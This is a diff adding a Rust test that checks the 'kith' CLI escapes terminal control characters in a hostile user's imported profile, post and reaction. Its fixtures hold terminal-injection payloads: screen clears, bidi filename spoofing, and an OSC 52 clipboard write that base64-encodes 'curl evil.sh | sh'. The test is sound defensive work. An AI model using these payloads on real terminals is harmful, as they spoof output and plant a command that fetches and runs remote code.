@@ -3,6 +3,11 @@
 
 use std::os::unix::fs::PermissionsExt;
 
+use automerge::AutoCommit;
+use automerge::transaction::Transactable;
+use kith_core::archive::Archive;
+use kith_core::schema::{feed, profile};
+use kith_core::{DeviceCert, DeviceKey, DocId, IdentityKey, PostId, SignedChange, SpaceId};
 use kith_tests::TestHome;
 
 #[test]
@@ -530,4 +535,122 @@ fn names_and_posts_that_hide_what_they_say_are_refused() {
             .fails_with("a post needs visible text");
     }
     assert_eq!(ada.run(&["feed", "--json"]).json(), serde_json::json!([]));
+}
+
+/// What mallory writes; the CLI's own checks would refuse the name, so she
+/// signs her changes herself.
+const HOSTILE_NAME: &str = "Mallory\r\n01ARZ3NDEKTSV4RRFFQ69G5FAV  Ada\u{1b}[2J\u{202E}";
+const HOSTILE_BIO: &str = "hi\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
+const HOSTILE_POST: &str = "hello\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\n\
+                            two\u{1b}[2J\u{1b}[H\rfake\u{9b}31m \u{202E}gnp.exe";
+const HOSTILE_REACTION: &str = "\u{1b}[5m";
+
+/// Characters a terminal obeys, or that reorder the text around them.
+const RAW_CONTROLS: [char; 5] = ['\u{1b}', '\u{7}', '\r', '\u{9b}', '\u{202E}'];
+
+/// Mallory's profile, one post and a reaction to it, as an archive signed
+/// by a device of hers; returns the archive, the post's id and her id.
+fn hostile_archive() -> (Vec<u8>, PostId, String) {
+    let mallory = IdentityKey::generate().expect("random bytes");
+    let device = DeviceKey::generate().expect("random bytes");
+    let cert = DeviceCert::issue(&mallory, &device, 1);
+    let actor = kith_core::actor_id(&device.id(), b"mallory");
+    let sign = |doc: DocId, d: &mut AutoCommit| {
+        d.commit().expect("the edit changed something");
+        let change = d.get_last_local_change().expect("just committed");
+        SignedChange::sign(doc, change.raw_bytes().to_vec(), &device, mallory.id())
+            .expect("her own device signs")
+            .into_inner()
+    };
+
+    let profile_id = DocId::profile(mallory.id());
+    let mut profile = AutoCommit::new().with_actor(actor.clone());
+    profile
+        .put(automerge::ROOT, profile::NAME, HOSTILE_NAME)
+        .unwrap();
+    profile
+        .put(automerge::ROOT, profile::BIO, HOSTILE_BIO)
+        .unwrap();
+    let profile_change = sign(profile_id, &mut profile);
+
+    let feed_id = DocId::feed(mallory.id(), SpaceId::PUBLIC, 0);
+    let mut posts = AutoCommit::new().with_actor(actor);
+    feed::create_post(&mut posts, "k1", HOSTILE_POST, 1_700_000_000_000, None)
+        .expect("the post has visible text");
+    let post_change = sign(feed_id, &mut posts);
+    let post = PostId::derive(&feed_id, "k1");
+    feed::react(&mut posts, &post, HOSTILE_REACTION).expect("a reaction without spaces");
+    let reaction_change = sign(feed_id, &mut posts);
+
+    let archive = Archive {
+        certificates: vec![cert],
+        changes: vec![profile_change, post_change, reaction_change],
+    };
+    (archive.encode(), post, mallory.id().to_string())
+}
+
+/// mallory (signs her own archive) -- file --> ada
+#[test]
+fn text_that_others_wrote_cannot_drive_the_terminal() {
+    let ada = TestHome::init("Ada");
+    let (archive, post, mallory) = hostile_archive();
+    let file = ada.path("../mallory.kith");
+    std::fs::write(&file, archive).unwrap();
+    let imported = ada
+        .run(&["import", file.to_str().unwrap(), "--json"])
+        .json();
+    assert_eq!(imported["applied"], 3, "{imported}");
+    ada.run(&["follow", &mallory]).out();
+    let post = post.to_string();
+
+    // The node keeps what mallory signed, byte for byte.
+    let json = ada.run(&["show", &post, "--json"]).json();
+    assert_eq!(json["post"]["text"], HOSTILE_POST);
+    assert_eq!(json["post"]["author_name"], HOSTILE_NAME);
+    assert_eq!(json["post"]["reactions"][HOSTILE_REACTION], 1);
+
+    for args in [
+        &["feed"][..],
+        &["show", &post],
+        &["show", &post, "--history"],
+        &["people"],
+        &["profile", "show", &mallory],
+        &["feed", "--json"],
+        &["show", &post, "--json"],
+        &["people", "--json"],
+        &["profile", "show", &mallory, "--json"],
+    ] {
+        let out = ada.run(args).out().to_owned();
+        assert!(
+            !out.contains(RAW_CONTROLS),
+            "`kith {}` printed a raw control character: {out:?}",
+            args.join(" ")
+        );
+    }
+
+    // Shown escaped, on the lines kith gives them: the name's line break
+    // makes no second line, the post's own line break stays one.
+    let feed = ada.run(&["feed"]).out().to_owned();
+    assert!(
+        feed.contains("hello\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}"),
+        "{feed}"
+    );
+    assert!(
+        feed.contains("\n  two\\u{1b}[2J\\u{1b}[H\\rfake\\u{9b}31m \\u{202e}gnp.exe"),
+        "{feed}"
+    );
+    assert!(feed.contains("\\u{1b}[5m 1"), "the reaction: {feed}");
+    let header = feed.lines().next().unwrap();
+    assert!(
+        header.starts_with(&post)
+            && header.contains("Mallory\\r\\n01ARZ3NDEKTSV4RRFFQ69G5FAV  Ada\\u{1b}[2J\\u{202e}"),
+        "{header}"
+    );
+    let people = ada.run(&["people"]).out().to_owned();
+    assert_eq!(people.lines().count(), 1, "{people}");
+    let shown = ada.run(&["profile", "show", &mallory]).out().to_owned();
+    assert!(
+        shown.contains("bio      hi\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}"),
+        "{shown}"
+    );
 }
